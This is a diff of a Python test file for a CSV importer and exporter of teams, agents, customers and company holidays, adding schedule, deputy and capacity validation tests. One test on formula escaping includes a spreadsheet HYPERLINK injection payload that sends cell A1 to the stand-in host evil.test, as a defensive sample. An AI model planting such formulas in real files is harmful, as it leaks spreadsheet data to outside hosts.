@@ -12,11 +12,15 @@ from sqlalchemy.ext.asyncio import AsyncEngine
 from routers.csv.exporter import export_csv
 from routers.csv.format import ImportFileError, escape_cell, unescape_cell
 from routers.csv.importer import import_csv
-from routers.models import Agent, Customer, CustomerIdentity, Team
+from routers.models import Agent, CompanyHoliday, Customer, CustomerIdentity, Team
 from routers.store.engine import create_engine, migrate
 
 EXAMPLES = Path(__file__).parent.parent / "config" / "examples"
+KINDS = ("teams", "agents", "customers", "holidays")
 CUSTOMERS_HEADER = "id,name,team,emails,phones,twitter\n"
+TEAMS_HEADER = "id,name,dial,email,timezone,hours,holidays,after_hours,after_hours_dial\n"
+AGENTS_HEADER = "id,name,team,email,phone,dial,active,deputy,capacity,hours\n"
+HOLIDAYS_HEADER = "team,date,name,hours\n"
 
 
 def write(tmp_path: Path, name: str, text: str, *, bom: bool = False) -> Path:
@@ -26,7 +30,7 @@ def write(tmp_path: Path, name: str, text: str, *, bom: bool = False) -> Path:
 
 
 async def load_examples(db: AsyncEngine) -> None:
-    for kind in ("teams", "agents", "customers"):
+    for kind in KINDS:
         report = await import_csv(
             db, EXAMPLES / f"{kind}.csv", kind=None, region="TR", dry_run=False
         )
@@ -41,7 +45,7 @@ async def identities(db: AsyncEngine) -> set[tuple[str, str, str]]:
         return {(k, a, c) for k, a, c in rows.all()}
 
 
-async def count(db: AsyncEngine, model: type[Team | Agent | Customer]) -> int:
+async def count(db: AsyncEngine, model: type[Team | Agent | Customer | CompanyHoliday]) -> int:
     async with db.connect() as conn:
         return int((await conn.execute(select(func.count()).select_from(model))).scalar_one())
 
@@ -50,14 +54,16 @@ async def test_each_kind_imports_from_the_examples(db: AsyncEngine) -> None:
     """The shipped example directory loads cleanly, its kinds detected from the headers."""
     reports = [
         await import_csv(db, EXAMPLES / f"{k}.csv", kind=None, region="TR", dry_run=False)
-        for k in ("teams", "agents", "customers")
+        for k in KINDS
     ]
     assert [(r.kind, r.inserted, r.updated, r.rejected) for r in reports] == [
-        ("teams", 3, 0, 0),
-        ("agents", 6, 0, 0),
+        ("teams", 4, 0, 0),
+        ("agents", 7, 0, 0),
         ("customers", 10, 0, 0),
+        ("holidays", 3, 0, 0),
     ]
-    assert (await count(db, Team), await count(db, Agent), await count(db, Customer)) == (3, 6, 10)
+    assert (await count(db, Team), await count(db, Agent), await count(db, Customer)) == (4, 7, 10)
+    assert await count(db, CompanyHoliday) == 3
     ids = await identities(db)
     assert ("twitter", "id:1498237650123456789", "c-1004") in ids
     assert ("twitter", "emilyj_nyc", "c-1005") in ids
@@ -241,15 +247,11 @@ async def test_export_then_import_round_trips(db: AsyncEngine, tmp_path: Path) -
     """What export writes, import reads back to the same directory, X user ids included."""
     await load_examples(db)
     files = {}
-    for kind in ("teams", "agents", "customers"):
+    for kind in KINDS:
         out = io.StringIO()
         assert (
-            await export_csv(db, kind, out, batch_size=3)
-            == {
-                "teams": 3,
-                "agents": 6,
-                "customers": 10,
-            }[kind]
+            await export_csv(db, kind, out, batch_size=2)
+            == {"teams": 4, "agents": 7, "customers": 10, "holidays": 3}[kind]
         )
         files[kind] = write(tmp_path, f"{kind}.csv", out.getvalue())
     assert "id:1498237650123456789" in files["customers"].read_text()
@@ -258,13 +260,14 @@ async def test_export_then_import_round_trips(db: AsyncEngine, tmp_path: Path) -
     other = create_engine(f"sqlite:///{tmp_path}/copy.db")
     await migrate(f"sqlite:///{tmp_path}/copy.db")
     try:
-        for kind in ("teams", "agents", "customers"):
+        for kind in KINDS:
             report = await import_csv(other, files[kind], kind=None, region="US", dry_run=False)
             assert report.rejects == []
             again = io.StringIO()
             await export_csv(other, kind, again)
             assert again.getvalue() == files[kind].read_text()
         assert await identities(other) == before
+        assert await directory(other) == await directory(db)
     finally:
         await other.dispose()
 
@@ -400,7 +403,7 @@ async def directory(engine: AsyncEngine) -> dict[str, set[tuple[object, ...]]]:
     async with engine.connect() as conn:
         return {
             model.__tablename__: {tuple(row) for row in (await conn.execute(select(model))).all()}
-            for model in (Team, Agent, Customer, CustomerIdentity)
+            for model in (Team, Agent, Customer, CustomerIdentity, CompanyHoliday)
         }
 
 
@@ -419,7 +422,7 @@ async def test_export_never_writes_a_formula_and_import_undoes_the_escape(
         out = io.StringIO()
         await export_csv(db, kind, out)
         files[kind] = write(tmp_path, f"{kind}.csv", out.getvalue())
-    teams = list(csv.reader(io.StringIO(files["teams"].read_text())))
+    teams = [row[:4] for row in csv.reader(io.StringIO(files["teams"].read_text()))]
     assert teams[1:] == [
         ["hyper", '\'=HYPERLINK("https://evil.test/?x="&A1,"open")', "'+902125550100", ""],
         ["minus", "'-Minus", "", ""],
@@ -434,7 +437,7 @@ async def test_export_never_writes_a_formula_and_import_undoes_the_escape(
         ["f-2", "'-2+3", "minus", "", "'+905321112255", "id:12345"],
     ]
     before = await directory(db)
-    assert ("quoted", "'=Quoted", None, None) in before["teams"]
+    assert ("quoted", "'=Quoted", None, None) in {t[:4] for t in before["teams"]}
     other = create_engine(f"sqlite:///{tmp_path}/copy.db")
     await migrate(f"sqlite:///{tmp_path}/copy.db")
     try:
@@ -464,3 +467,232 @@ def test_formula_escape_is_undone_exactly(value: str, written: str) -> None:
     """Every cell survives export then import unchanged, quotes included."""
     assert escape_cell(value) == written
     assert unescape_cell(written) == value
+
+
+# Issue 15: team schedules, holidays, deputies and capacity in the directory files.
+
+GOOD = {
+    "teams": (TEAMS_HEADER, "g1,Good,,,,,,,", "g2,Good Too,,,,,,,"),
+    "agents": (AGENTS_HEADER, "g1,Good,billing,,,,,,,", "g2,Good Too,billing,,,,,,,"),
+    "holidays": (HOLIDAYS_HEADER, "billing,2027-03-01,Good,", "oncall,2027-03-02,Good Too,"),
+}
+BAD_TIME = "(HH:MM, 00:00 to 24:00, 24:00 only as an end)"
+
+
+@pytest.mark.parametrize(
+    ("kind", "row", "reason"),
+    [
+        ("teams", "t1,T,,,Mars/Base,,,,", "unknown time zone 'Mars/Base'"),
+        ("teams", "t1,T,,,,Mon-Fri 9-18,,,", f"hours 'Mon-Fri 9-18': bad time '9' {BAD_TIME}"),
+        (
+            "teams",
+            "t1,T,,,,Mon-Fry 09:00-18:00,,,",
+            "hours 'Mon-Fry 09:00-18:00': unknown day 'Fry' (Mon, Tue, Wed, Thu, Fri, Sat, Sun)",
+        ),
+        ("teams", "t1,T,,,,,XX,,", "unknown holiday country 'XX' (ISO 3166-1 alpha-2, e.g. TR)"),
+        (
+            "teams",
+            "t1,T,,,,,,nowhere,",
+            "unknown after_hours team 'nowhere': not in the file or the directory",
+        ),
+        ("teams", "t1,T,,,,,,t1,", "after_hours 't1' is the team itself"),
+        ("teams", 't1,T,,,,,,,"sip:x,1"', "bad dial target 'sip:x,1': only letters, digits"),
+        ("agents", "a1,A,billing,,,,,nobody,,", "unknown deputy 'nobody': not in the file or"),
+        ("agents", "a1,A,billing,,,,,a1,,", "deputy 'a1' is the agent themself"),
+        (
+            "agents",
+            "a1,A,billing,,,,,,fax=3,",
+            "capacity 'fax=3': unknown channel 'fax' (email, sms, voice, twitter, whatsapp)",
+        ),
+        ("agents", "a1,A,billing,,,,,,email=many,", "capacity 'email=many': the count must be"),
+        ("agents", "a1,A,billing,,,,,,,Mon 25:00-26:00", "hours 'Mon 25:00-26:00': bad time"),
+        ("holidays", "nowhere,2026-12-31,Eve,", "unknown team 'nowhere'"),
+        ("holidays", "billing,31.12.2026,Eve,", "bad date '31.12.2026': use YYYY-MM-DD"),
+        ("holidays", "billing,2026-02-30,Eve,", "bad date '2026-02-30': no such day"),
+        ("holidays", "billing,,Eve,", "missing date"),
+        ("holidays", ",2026-12-31,Eve,", "missing team"),
+        ("holidays", "billing,2026-12-31,,", "missing name"),
+        ("holidays", "billing,2026-12-31,Eve,9-13", f"hours '9-13': bad time '9' {BAD_TIME}"),
+    ],
+)
+async def test_each_bad_schedule_column_rejects_its_row_alone(
+    engine: AsyncEngine, tmp_path: Path, kind: str, row: str, reason: str
+) -> None:
+    """A typo in a time zone, hours, country, deputy, after-hours team, capacity or date is
+    named by its line with what is wrong; the rows around it are imported."""
+    await load_examples(engine)
+    header, first, last = GOOD[kind]
+    path = write(tmp_path, f"{kind}.csv", f"{header}{first}\n{row}\n{last}\n")
+    report = await import_csv(engine, path, kind=None, region="TR", dry_run=False)
+    assert [line for line, _ in report.rejects] == [3]
+    assert report.rejects[0].reason.startswith(reason)
+    assert (report.kind, report.inserted) == (kind, 2)
+
+
+async def test_schedule_columns_are_stored_in_canonical_form(
+    db: AsyncEngine, tmp_path: Path
+) -> None:
+    """Hours, capacities and countries written any accepted way are stored as the router's
+    parsers print them, so two spellings never look like two settings."""
+    teams = write(
+        tmp_path,
+        "t.csv",
+        TEAMS_HEADER
+        + 't1,T,,,Europe/Istanbul," mon-fri 9:00-12:00 ,13:00-18:00 ; sat 10:00-14:00",'
+        "tr,,\n",
+    )
+    assert (await import_csv(db, teams, kind=None, region="TR", dry_run=False)).rejects == []
+    agents = write(
+        tmp_path, "a.csv", AGENTS_HEADER + "a1,A,t1,,,,, ,whatsapp=5; email=20 ,closed\n"
+    )
+    assert (await import_csv(db, agents, kind=None, region="TR", dry_run=False)).rejects == []
+    days = write(
+        tmp_path, "h.csv", HOLIDAYS_HEADER + 't1,2026-12-31,Eve," 13:00-15:00,9:00-12:00"\n'
+    )
+    assert (await import_csv(db, days, kind=None, region="TR", dry_run=False)).rejects == []
+    async with db.connect() as conn:
+        team = (await conn.execute(select(Team))).one()
+        agent = (await conn.execute(select(Agent))).one()
+        day = (await conn.execute(select(CompanyHoliday))).one()
+    assert (team.timezone, team.hours, team.holidays) == (
+        "Europe/Istanbul",
+        "Mon-Fri 09:00-12:00,13:00-18:00; Sat 10:00-14:00",
+        "TR",
+    )
+    assert (agent.deputy, agent.capacity, agent.hours) == (None, "email=20;whatsapp=5", "closed")
+    assert (str(day.day), day.name, day.hours) == ("2026-12-31", "Eve", "09:00-12:00,13:00-15:00")
+
+
+async def test_an_old_header_keeps_the_new_columns(db: AsyncEngine, tmp_path: Path) -> None:
+    """A teams.csv or agents.csv from before issue 15 still imports, and updating a name
+    with it leaves the hours, zone, deputy and capacity that were set as they were."""
+    await load_examples(db)
+    async with db.connect() as conn:
+        before = {t.id: t for t in (await conn.execute(select(Team))).all()}
+    teams = write(tmp_path, "t.csv", "id,name,dial,email\nbilling,Faturalama,,\nnew,New,,\n")
+    report = await import_csv(db, teams, kind=None, region="TR", dry_run=False)
+    assert (report.kind, report.inserted, report.updated, report.rejected) == ("teams", 1, 1, 0)
+    agents = write(
+        tmp_path, "a.csv", "id,name,team,email,phone,dial,active\nmehmet,Mehmet D.,billing,,,,\n"
+    )
+    report = await import_csv(db, agents, kind=None, region="TR", dry_run=False)
+    assert (report.kind, report.updated, report.rejected) == ("agents", 1, 0)
+    some = write(
+        tmp_path, "s.csv", "id,name,dial,email,hours\noncall,On call,,,Mon-Sun 08:00-24:00\n"
+    )
+    assert (await import_csv(db, some, kind=None, region="TR", dry_run=False)).rejects == []
+    async with db.connect() as conn:
+        teams_now = {t.id: t for t in (await conn.execute(select(Team))).all()}
+        mehmet = (await conn.execute(select(Agent).where(Agent.id == "mehmet"))).one()
+    billing = teams_now["billing"]
+    assert (billing.name, billing.dial) == ("Faturalama", None)
+    assert (billing.timezone, billing.hours, billing.holidays, billing.after_hours) == (
+        "Europe/Istanbul",
+        "Mon-Fri 09:00-18:00",
+        "TR",
+        "oncall",
+    )
+    assert billing.after_hours_dial == before["billing"].after_hours_dial
+    assert (teams_now["new"].timezone, teams_now["new"].hours) == (None, None)
+    assert (teams_now["oncall"].hours, teams_now["oncall"].name) == (
+        "Mon-Sun 08:00-24:00",
+        "On call",
+    )
+    assert (mehmet.name, mehmet.deputy, mehmet.capacity) == (
+        "Mehmet D.",
+        "ayse",
+        "email=20;sms=5;twitter=10;whatsapp=5",
+    )
+
+
+async def test_a_header_with_some_new_columns_is_its_kind(db: AsyncEngine, tmp_path: Path) -> None:
+    """Each issue 15 column is optional on its own; an unknown column still refuses the file,
+    naming the optional ones."""
+    path = write(tmp_path, "a.csv", "id,name,team,email,phone,dial,active,capacity\n")
+    assert (await import_csv(db, path, kind=None, region="TR", dry_run=False)).kind == "agents"
+    path = write(tmp_path, "h.csv", "team,date,name\n")
+    assert (await import_csv(db, path, kind=None, region="TR", dry_run=False)).kind == "holidays"
+    path = write(tmp_path, "x.csv", "id,name,dial,email,hours,colour\n")
+    with pytest.raises(ImportFileError, match=r"teams: id,name,dial,email \(optional: timezone,"):
+        await import_csv(db, path, kind=None, region="TR", dry_run=False)
+
+
+async def test_a_deputy_or_after_hours_team_may_come_later_in_the_file(
+    db: AsyncEngine, tmp_path: Path
+) -> None:
+    """A row may name an agent or team defined further down, even batches later; a name
+    that the file never defines, or only in a rejected row, rejects the rows naming it."""
+    teams = write(
+        tmp_path,
+        "t.csv",
+        TEAMS_HEADER
+        + "day,Day,,,,Mon-Fri 09:00-18:00,,night,\n"  # 2: night is on line 6
+        + "dusk,Dusk,,,,,,ghost,\n"  # 3: ghost's row is rejected
+        + "eve,Eve,,,,,,dusk,\n"  # 4: dusk is rejected, so eve is too
+        + "ghost,Ghost,,,Mars/Base,,,,\n"  # 5
+        + "night,Night,,,,,,,\n",  # 6
+    )
+    report = await import_csv(db, teams, kind=None, region="TR", dry_run=False, batch_size=2)
+    assert report.rejects == [
+        (3, "unknown after_hours team 'ghost': not in the file or the directory"),
+        (4, "unknown after_hours team 'dusk': not in the file or the directory"),
+        (5, "unknown time zone 'Mars/Base'"),
+    ]
+    agents = write(
+        tmp_path,
+        "a.csv",
+        AGENTS_HEADER
+        + "a1,One,day,,,,,a3,,\n"  # the deputy chain a1 -> a3 -> a4 crosses two batches
+        + "a2,Two,day,,,,,,,\n"
+        + "a3,Three,day,,,,,a4,,\n"
+        + "a4,Four,night,,,,,a1,,\n",
+    )
+    report = await import_csv(db, agents, kind=None, region="TR", dry_run=False, batch_size=1)
+    assert (report.inserted, report.rejects) == (4, [])
+    async with db.connect() as conn:
+        deputies = dict((await conn.execute(select(Agent.id, Agent.deputy))).all())
+        after = dict((await conn.execute(select(Team.id, Team.after_hours))).all())
+    assert deputies == {"a1": "a3", "a2": None, "a3": "a4", "a4": "a1"}
+    assert after == {"day": "night", "night": None}
+
+
+async def test_holidays_file_is_each_listed_teams_whole_calendar(
+    db: AsyncEngine, tmp_path: Path
+) -> None:
+    """Re-importing an edited export removes a company day taken out of it; a team the file
+    does not mention keeps its days, and a rejected row keeps the day it was for."""
+    await load_examples(db)
+    edited = write(
+        tmp_path,
+        "h.csv",
+        HOLIDAYS_HEADER
+        + "billing,2026-12-31,Yılbaşı arifesi,09:00-12:00\n"  # updated; 2027-01-15 dropped
+        + "billing,2027-04-23,Ulusal Egemenlik,\n",  # new
+    )
+    dry = await import_csv(db, edited, kind=None, region="TR", dry_run=True)
+    assert (dry.inserted, dry.updated, dry.removed, dry.rejected) == (1, 1, 1, 0)
+    report = await import_csv(db, edited, kind=None, region="TR", dry_run=False)
+    assert (report.inserted, report.updated, report.removed, report.rejected) == (1, 1, 1, 0)
+    typo = write(
+        tmp_path,
+        "typo.csv",
+        HOLIDAYS_HEADER
+        + "billing,2026-12-31,Yılbaşı arifesi,9-12\n"  # rejected: the day stays as it was
+        + "billing,2027-04-23,Ulusal Egemenlik,\n",
+    )
+    report = await import_csv(db, typo, kind=None, region="TR", dry_run=False)
+    assert (report.updated, report.removed, [line for line, _ in report.rejects]) == (1, 0, [2])
+    async with db.connect() as conn:
+        rows = (await conn.execute(select(CompanyHoliday).order_by("team_id", "day"))).all()
+    assert [(r.team_id, str(r.day), r.hours) for r in rows] == [
+        ("billing", "2026-12-31", "09:00-12:00"),
+        ("billing", "2027-04-23", None),
+        ("network", "2026-12-31", "09:00-13:00"),
+    ]
+    dup = write(
+        tmp_path,
+        "dup.csv",
+        HOLIDAYS_HEADER + "network,2026-12-31,Eve,\nnetwork,2026-12-31,Eve again,\n",
+    )
+    report = await import_csv(db, dup, kind=None, region="TR", dry_run=False)
+    assert report.rejects == [(3, "duplicate date 2026-12-31 for team 'network' (first on line 2)")]
